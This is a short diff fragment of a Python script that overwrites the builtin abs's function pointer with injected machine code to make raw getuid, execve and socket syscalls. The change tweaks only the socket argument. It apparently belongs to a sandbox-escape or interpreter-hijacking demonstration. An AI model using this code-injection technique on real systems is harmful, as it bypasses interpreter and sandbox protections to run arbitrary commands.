@@ -63,7 +63,7 @@ def machine_code(number, first):
 
 method = word(id(abs) + 16)  # its PyMethodDef: name, function, flags
 honest = memory[method + 8 : method + 16]
-for what, number, first in (("getuid", 102, 0), ("execve", 59, id(path) + 32), ("socket", 41, 1)):
+for what, number, first in (("getuid", 102, 0), ("execve", 59, id(path) + 32), ("socket", 41, 2)):
     page[: len(machine_code(number, first))] = machine_code(number, first)
     memory[method + 8 : method + 16] = struct.pack("<Q", address)
     abs(what)
